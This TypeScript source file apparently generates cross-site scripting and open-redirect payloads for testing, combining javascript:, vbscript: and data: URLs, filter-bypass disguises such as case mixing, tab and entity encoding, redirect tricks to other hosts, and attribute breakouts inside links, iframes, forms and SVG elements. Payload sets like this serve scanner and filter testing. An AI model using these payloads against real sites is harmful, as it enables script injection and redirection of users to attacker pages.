import { combineAll, type Shape, toEntities } from './shape'

/** Addresses that execute their content. */
const schemes: readonly Shape[] = [
  (call) => `javascript:${call}`,
  (call) => `vbscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:image/svg+xml,<svg onload=${call}>`,
]

/** Disguises for the scheme of an address. */
const disguises: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => address.replace(/[a-z]/gu, (letter, at) => (at % 2 ? letter : letter.toUpperCase())),
  (address) => `${address.slice(0, 4)}\t${address.slice(4)}`,
  (address) => `${address.slice(0, 3)}\n${address.slice(3)}`,
  (address) => `\u0001 ${address}`,
  (address) => address.replace(':', '&colon;'),
  (address) => toEntities(address.slice(0, 2)) + address.slice(2),
  (address) => address.replace(':', '%3A'),
]

/** Addresses that lead to other sites, or that execute the part after a host or a comment. */
const addresses: readonly Shape[] = [
  (call) => `javascript://x.test/%0a${call}`,
  (call) => `javascript:/*--></title></style>*/${call}`,
  (call) => `javascript:"<svg onload=${call}>"`,
  (call) => `jav\rascript:${call}`,
  (call) => `\u00a0javascript:${call}`,
  (call) => `view-source:javascript:${call}`,
  (call) => `feed:javascript:${call}`,
  (call) => `blob:javascript:${call}`,
  (_call, address) => address,
  (_call, address) => `/\\${address.slice(2)}`,
  (_call, address) => `\\\\${address.slice(2)}`,
  (_call, address) => `/\t${address.slice(1)}`,
  (_call, address) => `https:${address.slice(2)}`,
  (call, address) => `http:${address}" onclick="${call}`,
  (_call, address) => `http://v-ce.com@${address.slice(2)}`,
  (call) => `/" onmouseover=${call} x="`,
  (call) => `/'><img src=x onerror=${call}>`,
  (call) => `//javascript:${call}`,
  (call) => `https://x.test/"><svg onload=${call}>`,
  (_call, address) => `https:${address}#javascript:alert(1)`,
  (call) => `https://javascript:${call}@x.test/`,
  (call) => `https://x.test%00.v-ce.com/?${call}`,
  (call) => `/javascript:${call}`,
  (_call, address) => `/%09${address.slice(1)}`,
  (_call, address) => `/%5c${address.slice(2)}`,
  (_call, address) => `/.${address}`,
  (call) => `/leave?to=javascript:${call}`,
  (_call, address) => `/api/user/loginOut?to=${address}`,
]

/** Elements that open or load an address. */
const openers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">看</a>`,
  (address) => `<iframe src="${address}">`,
  (address) => `<form action="${address}"><button>看`,
  (address) => `<button form=x formaction="${address}">`,
  (address) => `<object data='${address}'>`,
  (address) => `<embed src='${address}'>`,
  (address) => `<svg><a href="${address}"><text y=9>看`,
  (address) => `<svg><a xlink:href='${address}'><text y=9>看`,
  (address) => `<math href="${address}"><mtext>看`,
  (address) => `<area href=${address}>`,
  (address) => `<base href="${address}//">`,
  (address) => `<svg><animate attributeName=href to=${address}>`,
]

/** Addresses, alone and in elements. */
export const linkShapes: readonly Shape[] = [
  ...combineAll(
    schemes,
    disguises,
    (scheme, disguise): Shape =>
      (...run) =>
        disguise(scheme(...run)),
  ),
  ...addresses,
  ...openers.map(
    (open): Shape =>
      (call) =>
        open(`javascript:${call}`),
  ),
  ...openers.map(
    (open): Shape =>
      (call) =>
        open(`java\tscript&colon;${call}`),
  ),
]
